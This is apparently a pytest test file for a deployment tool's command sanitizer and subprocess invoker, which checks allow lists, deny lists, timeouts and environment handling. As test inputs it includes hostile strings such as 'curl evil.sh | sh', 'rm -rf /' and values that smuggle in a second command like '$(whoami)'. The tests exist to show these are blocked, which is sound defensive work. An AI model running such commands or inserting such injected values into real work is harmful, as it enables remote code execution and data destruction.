"""Tests for the command sanitizer and toolchain invoker."""

import asyncio

import pytest

from conftest import FakeRunner, failed, ok
from deployer.errors import (
    CommandNotAllowed,
    DangerousInput,
    DeploymentTimeout,
    ToolchainError,
    UnsafeCommand,
)
from deployer.pipeline.toolchain import (
    DANGEROUS_CHARACTERS,
    DEFAULT_ALLOWED_PROGRAMS,
    CommandSanitizer,
    ToolchainInvoker,
    ToolchainStep,
    get_blocked_attempts,
)
from deployer.pipeline.workspace import Scaffold, WorkspaceProvisioner

# Real programs used to exercise the subprocess path
SYSTEM_PROGRAMS = ("echo", "false", "sleep", "env", "pwd")


@pytest.fixture
def workspace(workspace_root):
    return WorkspaceProvisioner(workspace_root).provision(
        "evm", Scaffold(directories=["scripts"])
    )


class TestCommandSanitizer:
    """Tests for CommandSanitizer."""

    @pytest.mark.parametrize("program", DEFAULT_ALLOWED_PROGRAMS)
    @pytest.mark.parametrize("char", [";", "|", "&", "$", "(", ")"])
    def test_metacharacters_rejected_for_every_program(self, program, char):
        sanitizer = CommandSanitizer()

        with pytest.raises(DangerousInput) as exc_info:
            sanitizer.check(f"{program} install{char}whoami")

        assert exc_info.value.character == char

    @pytest.mark.parametrize("char", DANGEROUS_CHARACTERS)
    def test_full_deny_list_in_argv(self, char):
        sanitizer = CommandSanitizer()

        with pytest.raises(DangerousInput):
            sanitizer.check(["npx", "hardhat", f"arg{char}"])

    @pytest.mark.parametrize("command", ["rm -rf /", "bash", "node scripts/x.js", "/usr/bin/npm install", ""])
    def test_program_not_allowed(self, command):
        with pytest.raises(CommandNotAllowed):
            CommandSanitizer().check(command)

    def test_deny_list_checked_before_allow_list(self):
        with pytest.raises(DangerousInput):
            CommandSanitizer().check("curl evil.sh | sh")

    @pytest.mark.parametrize(
        "command",
        [
            "npm install --no-audit --no-fund",
            "npx hardhat compile",
            "npx hardhat run scripts/deploy.ts --network umi",
            "aptos move publish --assume-yes --named-addresses example=0xabc",
            "hardhat compile",
        ],
    )
    def test_allowed_commands_pass(self, command):
        assert CommandSanitizer().check(command) == command.split()

    def test_custom_allow_list(self):
        sanitizer = CommandSanitizer(allowed_programs=["echo"])

        assert sanitizer.check(("echo", "hi")) == ["echo", "hi"]
        with pytest.raises(CommandNotAllowed):
            sanitizer.check(("npm", "install"))

    def test_unsafe_command_hierarchy(self):
        assert issubclass(DangerousInput, UnsafeCommand)
        assert issubclass(CommandNotAllowed, UnsafeCommand)

    def test_blocked_attempts_counted(self):
        sanitizer = CommandSanitizer()
        for _ in range(2):
            with pytest.raises(DangerousInput):
                sanitizer.check("npm install;ls")
        with pytest.raises(CommandNotAllowed):
            sanitizer.check("ls")

        counts = get_blocked_attempts()
        assert counts["dangerous character ';'"] == 2
        assert counts["program 'ls' not allowed"] == 1


class TestToolchainInvokerFake:
    """Sequence semantics with a fake runner."""

    @pytest.mark.asyncio
    async def test_runs_steps_in_order(self, workspace):
        runner = FakeRunner([ok("installed"), ok("compiled"), ok("deployed")])
        invoker = ToolchainInvoker(runner=runner)
        steps = [
            ToolchainStep("install", ("npm", "install")),
            ToolchainStep("compile", ("npx", "hardhat", "compile")),
            ToolchainStep("deploy", ("npx", "hardhat", "run", "scripts/deploy.ts")),
        ]

        result = await invoker.run_sequence(steps, workspace)

        assert result.stdout == "deployed"
        assert result.step == "deploy"
        assert runner.programs == ["npm install", "npx hardhat", "npx hardhat"]
        assert all(call.cwd == str(workspace.root_path.resolve()) for call in runner.calls)

    @pytest.mark.asyncio
    async def test_stops_at_first_failure(self, workspace):
        runner = FakeRunner([ok("installed"), failed(2, stdout="partial", stderr="boom")])
        invoker = ToolchainInvoker(runner=runner)
        steps = [
            ToolchainStep("install", ("npm", "install")),
            ToolchainStep("compile", ("npx", "hardhat", "compile")),
            ToolchainStep("deploy", ("npx", "hardhat", "run", "scripts/deploy.ts")),
        ]

        with pytest.raises(ToolchainError) as exc_info:
            await invoker.run_sequence(steps, workspace)

        error = exc_info.value
        assert error.step == "compile"
        assert error.returncode == 2
        assert error.stdout == "partial"
        assert error.stderr == "boom"
        assert len(runner.calls) == 2

    @pytest.mark.asyncio
    async def test_sanitizes_every_step_before_running(self, workspace):
        runner = FakeRunner()
        invoker = ToolchainInvoker(runner=runner)
        steps = [
            ToolchainStep("install", ("npm", "install")),
            ToolchainStep("evil", ("npx", "hardhat", "run", "$(whoami)")),
        ]

        with pytest.raises(DangerousInput):
            await invoker.run_sequence(steps, workspace)

        assert runner.calls == []

    @pytest.mark.asyncio
    async def test_cwd_escape_rejected(self, workspace):
        runner = FakeRunner()
        invoker = ToolchainInvoker(runner=runner)

        with pytest.raises(UnsafeCommand):
            await invoker.run_sequence([ToolchainStep("x", ("npm", "install"), cwd="..")], workspace)

        assert runner.calls == []

    @pytest.mark.asyncio
    async def test_subdirectory_cwd(self, workspace):
        runner = FakeRunner()
        invoker = ToolchainInvoker(runner=runner)

        await invoker.run_sequence([ToolchainStep("x", ("npm", "install"), cwd="scripts")], workspace)

        assert runner.calls[0].cwd == str(workspace.root_path.resolve() / "scripts")

    @pytest.mark.asyncio
    async def test_injected_environment(self, workspace, monkeypatch):
        monkeypatch.setenv("AMBIENT_MARKER", "present")
        runner = FakeRunner()
        invoker = ToolchainInvoker(runner=runner)

        await invoker.run_sequence(
            [ToolchainStep("x", ("npm", "install"))], workspace, env={"SECRET_VALUE": "s3cret"}
        )

        env = runner.calls[0].env
        assert env["SECRET_VALUE"] == "s3cret"
        assert env["AMBIENT_MARKER"] == "present"
        assert "s3cret" not in runner.calls[0].argv

    @pytest.mark.asyncio
    async def test_minimal_environment(self, workspace, monkeypatch):
        monkeypatch.setenv("AMBIENT_MARKER", "present")
        runner = FakeRunner()
        invoker = ToolchainInvoker(runner=runner, inherit_env=False)

        await invoker.run_sequence([ToolchainStep("x", ("npm", "install"))], workspace, env={"A": "1"})

        env = runner.calls[0].env
        assert "AMBIENT_MARKER" not in env
        assert env["A"] == "1"

    @pytest.mark.asyncio
    async def test_empty_sequence_is_error(self, workspace):
        with pytest.raises(ToolchainError):
            await ToolchainInvoker(runner=FakeRunner()).run_sequence([], workspace)


class TestToolchainInvokerSubprocess:
    """Real process execution (no shell)."""

    @pytest.fixture
    def invoker(self):
        return ToolchainInvoker(
            sanitizer=CommandSanitizer(allowed_programs=SYSTEM_PROGRAMS), step_timeout=10
        )

    @pytest.mark.asyncio
    async def test_captures_stdout(self, invoker, workspace):
        result = await invoker.run_sequence(
            [ToolchainStep("greet", ("echo", "HelloWorld", "is", "deployed"))], workspace
        )

        assert result.succeeded
        assert result.stdout.strip() == "HelloWorld is deployed"

    @pytest.mark.asyncio
    async def test_runs_in_workspace(self, invoker, workspace):
        result = await invoker.run_step(ToolchainStep("where", ("pwd",)), workspace)

        assert result.stdout.strip() == str(workspace.root_path.resolve())

    @pytest.mark.asyncio
    async def test_env_reaches_process(self, invoker, workspace):
        result = await invoker.run_step(
            ToolchainStep("env", ("env",)), workspace, env={"DEPLOYER_PRIVATE_KEY": "abc123"}
        )

        assert "DEPLOYER_PRIVATE_KEY=abc123" in result.stdout

    @pytest.mark.asyncio
    async def test_nonzero_exit_short_circuits(self, invoker, workspace):
        steps = [
            ToolchainStep("fail", ("false",)),
            ToolchainStep("never", ("echo", "unreachable")),
        ]

        with pytest.raises(ToolchainError) as exc_info:
            await invoker.run_sequence(steps, workspace)

        assert exc_info.value.step == "fail"
        assert exc_info.value.returncode != 0

    @pytest.mark.asyncio
    async def test_step_timeout(self, workspace):
        invoker = ToolchainInvoker(
            sanitizer=CommandSanitizer(allowed_programs=SYSTEM_PROGRAMS), step_timeout=0.2
        )

        with pytest.raises(DeploymentTimeout) as exc_info:
            await invoker.run_sequence([ToolchainStep("slow", ("sleep", "5"))], workspace)

        assert exc_info.value.step == "slow"

    @pytest.mark.asyncio
    async def test_timeout_keeps_partial_output(self, workspace):
        invoker = ToolchainInvoker(
            sanitizer=CommandSanitizer(allowed_programs=("sh",), dangerous_characters=()),
            step_timeout=0.5,
        )
        step = ToolchainStep("compile", ("sh", "-c", "echo compiling; echo warning >&2; sleep 5"))

        with pytest.raises(DeploymentTimeout) as exc_info:
            await invoker.run_sequence([step], workspace)

        error = exc_info.value
        assert error.stdout == "compiling\n"
        assert "warning" in error.stderr
        assert "Timed out" in error.stderr

    @pytest.mark.asyncio
    async def test_cancellation_kills_process(self, invoker, workspace):
        task = asyncio.create_task(
            invoker.run_sequence([ToolchainStep("slow", ("sleep", "5"))], workspace)
        )
        await asyncio.sleep(0.2)
        task.cancel()

        with pytest.raises(asyncio.CancelledError):
            await asyncio.wait_for(task, timeout=3)

    @pytest.mark.asyncio
    async def test_shell_metacharacters_are_not_interpreted(self, workspace):
        # Even with the deny-list disabled no shell expands the argument
        invoker = ToolchainInvoker(
            sanitizer=CommandSanitizer(allowed_programs=SYSTEM_PROGRAMS, dangerous_characters=())
        )

        result = await invoker.run_step(ToolchainStep("echo", ("echo", "$HOME;id")), workspace)

        assert result.stdout.strip() == "$HOME;id"
